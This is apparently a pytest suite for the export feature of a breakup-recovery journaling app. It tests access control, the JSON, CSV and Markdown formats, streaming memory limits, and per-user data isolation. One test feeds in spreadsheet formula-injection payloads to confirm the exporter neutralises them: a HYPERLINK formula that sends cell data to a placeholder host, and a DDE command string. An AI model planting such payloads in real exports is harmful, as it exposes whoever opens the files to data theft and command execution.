from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tracemalloc
import zipfile

import pytest

from journal import exports
from journal.models import Entry, FocusArea, Reset, Situation


def body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def records(alice, bob, area, entry, period):
    Reset.objects.create(period=period, run_started_at=period.started_at, note="slipped")
    Situation.objects.create(user=alice, whose_side="mine", honest=True, slow_plan="slowly")
    Entry.objects.create(user=bob, day=dt.date(2026, 1, 1), title="Bob's secret entry")


@pytest.mark.parametrize("fmt", ["json", "markdown", "csv"])
def test_exports_need_login(visitor, fmt):
    assert visitor.get(f"/journal/export/{fmt}/").url.startswith("/accounts/login/")


def test_an_unknown_format_is_404(alice_client):
    assert alice_client.get("/journal/export/pdf/").status_code == 404


def test_json_has_everything_and_nothing_of_anyone_else(alice_client, records):
    response = alice_client.get("/journal/export/json/")
    assert response["Content-Type"].startswith("application/json")
    assert 'attachment; filename="reconnect-' in response["Content-Disposition"]
    data = json.loads(body(response))
    assert data["schema"] == "reconnect/1"
    assert [e["title"] for e in data["entries"]] == ["A long walk"]
    assert data["entries"][0]["focus"] == "Jealousy"
    assert data["focus_areas"][0]["name"] == "Jealousy"
    assert data["waiting_periods"][0]["resets"][0]["note"] == "slipped"
    assert data["situation"]["slow_plan"] == "slowly"
    assert "Bob" not in json.dumps(data)


def test_json_of_an_empty_account_is_valid(alice_client):
    data = json.loads(body(alice_client.get("/journal/export/json/")))
    assert data["entries"] == [] and data["situation"] is None


def test_csv_has_a_row_per_entry(alice_client, records):
    text = body(alice_client.get("/journal/export/csv/")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["day"], r["title"], r["focus"]) for r in rows] == [
        ("2026-11-01", "A long walk", "Jealousy")
    ]


def test_markdown_is_a_zip_of_entries_with_front_matter(alice_client, records):
    response = alice_client.get("/journal/export/markdown/")
    assert response["Content-Type"] == "application/zip"
    archive = zipfile.ZipFile(io.BytesIO(body(response)))
    names = archive.namelist()
    assert "index.md" in names
    entry_file = next(n for n in names if n.startswith("entries/"))
    text = archive.read(entry_file).decode()
    assert text.startswith('---\ntitle: "A long walk"\nday: 2026-11-01\n')
    assert "Felt *calm*." in text
    assert entry_file in archive.read("index.md").decode()
    assert archive.testzip() is None


def test_exports_stream_in_bounded_memory(alice):
    text = "A line of an entry that is long enough to matter. " * 60  # about 3,000 characters
    Entry.objects.bulk_create(
        Entry(
            user=alice,
            day=dt.date(2026, 1, 1) + dt.timedelta(days=i % 300),
            title=f"Entry {i}",
            body=text,
            body_html=text,
        )  # fmt: skip
        for i in range(10_000)
    )
    for write, limit in (
        (exports.export_json, 6),
        (exports.export_csv, 6),
        # A zip keeps a small directory record per file until its end: about 1 KB an entry.
        (exports.export_markdown, 16),
    ):
        tracemalloc.start()
        size = sum(len(chunk) for chunk in write(alice))
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert size > 2_000_000  # compressed zip; the text exports are ~30 MB
        assert peak < limit * 1024 * 1024, (write.__name__, size, peak)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("=cmd|' /C calc'!A0", "'=cmd|"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTabbed", "'\tTabbed"),
    ],
)
def test_csv_cells_never_start_a_formula(alice_client, alice, text, cell):
    area = FocusArea.objects.create(user=alice, name=text)
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title=text, body=text, focus=area)
    rows = list(csv.reader(io.StringIO(body(alice_client.get("/journal/export/csv/")).decode())))
    title, focus, entry_body = rows[1][1], rows[1][3], rows[1][4]
    for value in (title, focus):
        assert value.startswith(cell), value
        assert value[1:] == text  # the text itself is kept, after the quote
    assert entry_body.startswith(cell) and entry_body[1:] == text


def test_a_carriage_return_in_a_cell_never_splits_a_row(alice_client, alice):
    """Line endings are \n in every export; a CR inside a title becomes one, quoted."""
    Entry.objects.create(user=alice, day=dt.date(2026, 11, 1), title="\rReturn", body="a\rb")
    rows = list(csv.reader(io.StringIO(body(alice_client.get("/journal/export/csv/")).decode())))
    assert len(rows) == 2
    assert rows[1][1] == "\nReturn" and rows[1][4] == "a\nb"


def test_plain_csv_cells_are_unchanged():
    assert exports.spreadsheet_safe("A calm walk") == "A calm walk"
    assert exports.spreadsheet_safe(4) == 4
    assert exports.spreadsheet_safe("") == ""


@pytest.fixture
def hard_moments(alice, bob, period, urge, reason):
    from journal.models import LogisticsContact, Urge

    Urge.objects.filter(pk=urge.pk).update(outcome="kept_draft", draft="kept")
    LogisticsContact.objects.create(period=period, day=period.start, note="Returned the bike")
    alice.friend_name, alice.friend_email = "Sam", "sam@example.org"
    alice.save()
    now = urge.created
    Urge.objects.create(
        user=bob, message="Bob's own", triggers=",dream,", intensity=2, created=now, pause_until=now
    )


def test_json_has_the_hard_moments(alice_client, hard_moments, urge):
    data = json.loads(body(alice_client.get("/journal/export/json/")))
    [exported] = data["urges"]
    assert exported["message"] == "I miss you. Can we talk?"
    assert exported["triggers"] == ["loneliness", "alcohol"]
    assert (exported["intensity"], exported["draft"]) == (8, "kept")
    assert exported["created"] == urge.created.isoformat()
    assert data["reasons_to_wait"] == ["I need to be okay alone first"]
    assert data["logistics_contacts"][0]["note"] == "Returned the bike"
    assert data["friend"] == {"name": "Sam", "email": "sam@example.org"}
    assert "Bob's own" not in json.dumps(data)


def test_markdown_has_the_hard_moments(alice_client, hard_moments):
    archive = zipfile.ZipFile(io.BytesIO(body(alice_client.get("/journal/export/markdown/"))))
    text = archive.read("hard-moments.md").decode()
    assert "1. I need to be okay alone first" in text
    kept = "I still want to send it: keep it as a draft"
    assert f"Loneliness, Alcohol · strength 8 · {kept} · unsent draft" in text
    assert "  > I miss you. Can we talk?" in text
    assert "Returned the bike" in text
    assert "Sam <sam@example.org>" in text
    assert "Bob's own" not in text
